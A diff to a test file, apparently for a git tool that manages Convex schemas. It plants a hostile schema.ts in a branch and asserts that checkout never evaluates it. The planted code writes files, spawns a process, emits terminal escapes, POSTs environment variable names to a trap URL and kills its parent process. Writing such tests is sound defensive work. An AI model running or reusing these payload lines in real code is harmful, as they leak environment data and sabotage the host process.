@@ -256,8 +256,9 @@ it(
 );
 
 it(
-  "the schema of a branch is looked at without rights, and files are written where they belong",
-  inBegunWorld(async (world) => {
+  "nothing of a branch is evaluated at a checkout, and files are written where they belong",
+  inBegunWorld(async (world, t) => {
+    const trap = await startTrap(t);
     const outside = join(world.home, "outside");
     mkdirSync(outside);
     await world.git("checkout", "-q", "-b", "links", "feature/split-name");
@@ -287,11 +288,14 @@ it(
       "convex/schema.ts",
       [
         "const { process } = globalThis as any;",
-        "if (process?.getBuiltinModule ?? process?.mainModule) {",
+        "if (process?.versions?.node) {",
         '  const use = (name: string) => process.getBuiltinModule(name);',
         `  try { use("fs").writeFileSync(${mark("schema")}, ""); } catch {}`,
         `  try { use("child_process").execFileSync("touch", [${mark("child")}]); } catch {}`,
         `  process.stderr.write(${JSON.stringify(ESCAPES)});`,
+        `  fetch(${JSON.stringify(trap.url)}, { method: "POST", body: Object.keys(process.env).join() });`,
+        "  process.kill(process.ppid);",
+        "  setTimeout(() => {}, 60_000);",
         "}",
         schema,
       ].join("\n"),
@@ -300,6 +304,8 @@ it(
     await gitAsleep(world, "checkout", "-q", "main");
     const { stderr } = await checkout(world, "schema");
     assert.match(stderr, /pushing schema/);
+    assert.notEqual((await world.ledger())[IDS.splitName], undefined);
+    assert.equal(trap.requests, 0);
     await harmless(world);
     const log = world.path(".git/cvx/log");
     for (const name of existsSync(log) ? readdirSync(log) : [])
